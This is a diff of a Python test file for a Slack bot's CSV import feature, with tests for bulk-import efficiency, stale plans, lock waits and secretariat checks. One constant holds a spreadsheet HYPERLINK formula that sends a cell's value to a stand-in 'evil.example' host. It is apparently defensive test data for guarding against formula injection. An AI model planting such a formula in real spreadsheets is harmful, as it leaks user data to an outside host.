@@ -2,10 +2,13 @@
 
 from concurrent.futures import ThreadPoolExecutor
 from datetime import UTC, date, time, timedelta
-from typing import Any
+from typing import Any, Final
 
 import pytest
 from builders import NOW
+from operations.people import cluster, held, settle, somebody
+from sqlalchemy import event
+from sqlalchemy import text as sql
 from sqlmodel import Session, col, select
 
 from bot.files import Form, read, write
@@ -13,13 +16,15 @@ from bot.operations import exchange, perform
 from bot.operations.clusters import edit
 from bot.operations.dataset import load
 from bot.operations.permissions import actor_of
+from bot.operations.representations import claim, hold
 from bot.rules.exchange import Kind, Noun, Plan, Wrong, table_of
+from bot.rules.members import Claimed
 from bot.rules.permissions import Actor, Refused
 from bot.rules.tables import Table
 from bot.rules.versions import Saved
 from bot.texts import exchange as say
 from store import exchange as stored
-from store.database import Database
+from store.database import Database, open_database
 from store.database import read as ask
 from store.dataset import read_history, read_sample
 from store.members import by_slack_id
@@ -39,6 +44,7 @@ from store.models import (
     metadata,
 )
 from store.network import stamp
+from store.transaction import transaction
 
 LATER = NOW + timedelta(hours=1)
 FORMULA = '=HYPERLINK("http://evil.example?x="&A1;"open")'
@@ -254,6 +260,98 @@ def test_two_at_once_follow_each_other(full: Database) -> None:
     assert sorted(plan.new for plan in plans) == [0, 1]
     [row] = [one for one in ask(full, stored.clusters) if one["key"] == "cosmetic-valley"]
     assert (row["hours"], row["website"], row["version"]) == ("Always", "https://new.example", 2)
+
+
+def statements(database: Database, noun: Noun, text: str) -> int:
+    """How many statements a file takes: as long as they last, nobody else writes. SQLite inserts numbered rows one by one."""
+    counted: list[str] = []
+
+    def count(_connection: Any, _cursor: Any, statement: str, *_rest: Any) -> None:
+        counted.extend([] if statement.startswith("INSERT") else [statement])
+
+    event.listen(database.writer, "before_cursor_execute", count)
+    plan = taken(database, noun, text)
+    event.remove(database.writer, "before_cursor_execute", count)
+    assert (plan.applied, plan.new + plan.changed) == (True, text.count("\n") - 1)
+    return len(counted)
+
+
+FILES: Final = (
+    (
+        Noun.CLUSTERS,
+        "key,name,countries,presentation,language,presentation_in_language,facts",
+        "c-{n},C {n},KR,A,fr,B,F | 1 | 2020 | S {n}",
+    ),
+    (
+        Noun.CLUSTERS,
+        "key,countries,presentation,language,presentation_in_language,hours,facts",
+        "c-{n},JP,C,it,D,Always,F | 2 | 2021 | T {n}",
+    ),
+    (Noun.MEMBERS, "slack_id,name,contact_of,represents", "UX{n},Person {n},c-{n},"),
+    (Noun.MEMBERS, "slack_id,contact_of,represents", "UX{n},,c-{n}"),
+    (Noun.MEMBERS, "slack_id,represents", "UX{n},"),
+    (Noun.MEMBERS, "slack_id,contact_of", "UX{n},c-{n}"),
+    (Noun.CLUSTERS, "key,retired", "c-{n},yes"),
+)
+
+
+def test_many_rows_take_as_many_statements_as_a_few(database: Database) -> None:
+    """A file of a thousand rows does not hold everybody up: what is new, what changes, and what ends."""
+    for noun, heading, row in FILES:
+        few, many = (
+            statements(database, noun, "\n".join([heading, *(row.format(n=n) for n in numbers), ""]))
+            for numbers in (range(100, 103), range(103, 150))
+        )
+        assert many == few, heading
+
+
+def test_a_plan_made_before_holds_only_while_nothing_has_changed(full: Database) -> None:
+    """What somebody saved between the plan and its turn is neither overlooked nor written over."""
+    table = read(b"key,website,hours\ncosmetic-valley,https://new.example,Always\n", "x.csv", Noun.CLUSTERS)
+    planned = ask(full, exchange.plan, noun=Noun.CLUSTERS, table=table, now=LATER)
+    paris = actor(full, "UPARIS02")
+    [number] = paris.contact_of
+    perform(full, edit, actor=paris, cluster_id=number, version=0, changes={"hours": "Always", "since": 1994}, now=NOW)
+    plan = perform(full, exchange.apply, actor=None, noun=Noun.CLUSTERS, table=table, now=LATER, planned=planned)
+    assert [[field.name for field in change.fields] for change in plan.changes] == [["website"]]
+    [row] = [one for one in ask(full, stored.clusters) if one["key"] == "cosmetic-valley"]
+    assert (row["website"], row["hours"], row["since"], row["version"]) == ("https://new.example", "Always", 1994, 2)
+    with Session(full.reader) as db:
+        kept = db.exec(select(Revision).order_by(col(Revision.number))).all()
+    assert [(one.data["hours"], one.data["website"]) for one in kept] == [("", ""), ("Always", "")]
+
+
+def test_an_import_of_people_and_a_claim_never_wait_in_a_circle(postgres_url: str) -> None:
+    """Who claims has locked a cluster and then points to a person; the import has locked the people and waits for the clusters."""
+    database = open_database(postgres_url)
+    settle(database, ["Alpha"], UNEW="", UCON="Alpha/contact")
+    table = read(b"slack_id,represents\nUCON,alpha\n", "x.csv", Noun.MEMBERS)
+    with ThreadPoolExecutor(1) as pool:
+        with transaction(database) as db:
+            hold(db, cluster(database, "Alpha"))
+            imported = pool.submit(perform, database, exchange.apply, actor=None, noun=Noun.MEMBERS, table=table, now=LATER)
+            waiting(database)
+            assert isinstance(claim(db, actor=somebody("UNEW"), cluster_id=cluster(database, "Alpha"), now=NOW), Claimed)
+        assert imported.result(30).changed == 1
+    assert held(database)["UNEW", "Alpha"] == ("representative", "pending")
+    database.dispose()
+
+
+def waiting(database: Database) -> None:
+    """Until somebody waits for a lock."""
+    locks = sql("SELECT count(*) FROM pg_locks WHERE NOT granted")
+    with Session(database.reader) as db:
+        while not db.connection().execute(locks).scalar_one():
+            pass
+
+
+def test_an_import_leaves_a_secretariat_that_can_act(database: Database) -> None:
+    """Somebody whom nobody has met does not count: the file would lock everybody out."""
+    settle(database, ["Alpha"], UCON="")
+    plan = taken(database, Noun.MEMBERS, "slack_id,role\nUSEC,\nUGHOST99,secretariat\n", actor(database, "USEC"))
+    assert what(plan) == [(2, "role", "no_secretariat")]
+    assert not plan.applied
+    assert taken(database, Noun.MEMBERS, "slack_id,role\nUSEC,\nUCON,secretariat\n", actor(database, "USEC")).applied
 
 
 def test_a_date_that_excel_rewrote_is_still_the_same_day(full: Database) -> None:
